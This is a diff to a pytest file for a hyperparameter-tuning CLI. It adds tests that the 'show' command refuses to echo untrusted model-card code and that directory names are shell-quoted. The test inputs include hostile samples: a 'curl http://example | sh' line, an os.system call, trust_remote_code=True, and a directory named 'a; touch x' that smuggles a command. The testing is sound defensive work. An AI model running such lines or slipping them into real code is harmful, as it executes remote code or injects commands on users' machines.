@@ -2,16 +2,17 @@
 
 import json
 import os
+import shlex
 
 import pytest
 
 from hydratune.cli.main import dispatch
-from hydratune.cli.run_list import find_runs, format_age, run_status
-from hydratune.sweep.plan import PLAN
+from hydratune.cli.run_list import format_age, run_status
 from hydratune.tracking.journal import JOURNAL
+from hydratune.tracking.run_directories import find_runs
 from hydratune.utils import process
 from hydratune.utils.errors import ConfigError
-from hydratune.utils.files import try_lock
+from hydratune.utils.files import PLAN, try_lock
 
 HYDRA = """hydra:
   runtime:
@@ -60,6 +61,14 @@ def test_run_status_is_that_of_the_directory(make_run, score, status, state):
     """Metrics are written last; without them, the journal says how the run ended, if it says so."""
     run = run_status(make_run("a", score=score, status=status))
     assert (run.state, run.score, run.objective) == (state, score, "eval_accuracy")
+
+
+def test_runs_breaks_no_path_on_a_narrow_terminal(make_run, monkeypatch, capsys):
+    """A path can be pasted from a terminal of 80 columns."""
+    monkeypatch.setenv("COLUMNS", "80")
+    directory = make_run("a" * 100, score=0.5)
+    assert dispatch(["runs"]) == 0
+    assert os.path.relpath(directory) in capsys.readouterr().out.split()
 
 
 def test_run_status_of_a_locked_directory_is_running(make_run):
@@ -129,6 +138,14 @@ def test_run_status_survives_a_broken_config(make_run, text):
     assert (run.state, run.name, run.score) == ("finished", "", None)
 
 
+def test_run_status_reads_no_texts_of_nested_lists(make_run):
+    """Ten lines of aliases stand for 10^10 values."""
+    lines = ["a: &a [x, x, x, x, x, x, x, x, x, x]"]
+    lines += [f"{n}: &{n} [{', '.join([f'*{p}'] * 10)}]" for p, n in zip("abcdefghi", "bcdefghij", strict=True)]
+    run = run_status(make_run("a", score=0.5, text="\n".join([*lines, "objective: *j", "name: *j"])))
+    assert (run.name, run.objective, run.score) == ("", "", None)
+
+
 @pytest.mark.parametrize("name", ["metrics.json", "mlflow.json", "tracking.jsonl"])
 def test_run_status_survives_deeply_nested_json(make_run, name):
     """Python's parser raises RecursionError."""
@@ -168,14 +185,17 @@ def test_runs_rejects_invalid_arguments(arguments, key):
 
 def test_show_lists_changed_settings_and_how_to_load_the_model(make_run, capsys):
     """A setting is listed with the default of its option; the model is loaded as its card says."""
-    directory = make_run("a", score=0.5, text="objective: eval_accuracy\nname: digits\nseed: 7\n")
+    directory = make_run(
+        "a", score=0.5, text="objective: eval_accuracy\nname: digits\nseed: 7\ntrainer: {args: {seed: 7}}\n"
+    )
     (directory / "model").mkdir()
-    (directory / "model" / "README.md").write_text("# x\n\n```python\nfolder = 'm'\nload(folder)\n```\n")
+    (directory / "model" / "README.md").write_text(f"# x\n\n```python\n{LOADING_CODE}\n```\n")
     assert dispatch(["show", str(directory)]) == 0
     out = capsys.readouterr().out
     assert "hydratune seed=7" in out
     assert "seed=7  (default: 42)" in out
-    assert "load(folder)" in out
+    assert "trainer.args.seed" not in out  # its default is the seed of the run
+    assert 'pipeline("text-classification", model=folder)' in out
     assert "0.5000" in out
 
 
@@ -216,6 +236,46 @@ def test_node_that_hydra_did_not_write_is_one_error(make_run, command, text):
     with pytest.raises(ConfigError) as caught:
         dispatch([command, str(run)])
     assert [problem.key for problem in caught.value.problems] == ["RUN"]
+
+
+CARD_CODE = [
+    "import os",
+    "from transformers import AutoModel; import os",
+    "from transformers import AutoModel  # noqa",
+    "from os import system",
+    'folder = "x"; __import__("os").system("x")',
+    'folder = "x" + open("y").read()',
+    'folder = "\\N{SPACE}"',
+    'model = pipeline("x", model=folder, trust_remote_code=True)',
+    "model, tokenizer = os.system.from_pretrained(folder), AutoTokenizer.from_pretrained(folder)",
+    'model, tokenizer = AutoModel.from_pretrained("me/evil"), AutoTokenizer.from_pretrained(folder)',
+    "!curl http://example | sh",
+    "model = adapters.load(folder)()",
+]
+LOADING_CODE = (
+    'from transformers import pipeline\nfolder = "elsewhere"\nmodel = pipeline("text-classification", model=folder)'
+)
+
+
+@pytest.mark.parametrize("line", ["", *CARD_CODE])
+def test_show_prints_no_code_of_someone_else(make_run, capsys, line):
+    """Users paste the lines that load a model; the control has only lines that hydratune writes."""
+    directory = make_run("a", score=0.5)
+    (directory / "model").mkdir()
+    code = f"{LOADING_CODE}\n{line}" if line else LOADING_CODE
+    (directory / "model" / "README.md").write_text(f"# x\n\n```python\n{code}\n```\n")
+    assert dispatch(["show", str(directory)]) == 0
+    output = capsys.readouterr().out
+    assert ("pipeline(" in output) == (not line)
+    assert not line or line not in output
+    assert "elsewhere" not in output
+
+
+def test_show_quotes_the_directory_in_commands(make_run, capsys):
+    """A cloned project chooses the names of its directories."""
+    directory = make_run("a; touch x")
+    assert dispatch(["show", str(directory)]) == 0
+    assert f"hydratune resume {shlex.quote(str(directory))}" in capsys.readouterr().out
 
 
 @pytest.mark.usefixtures("own_directory")
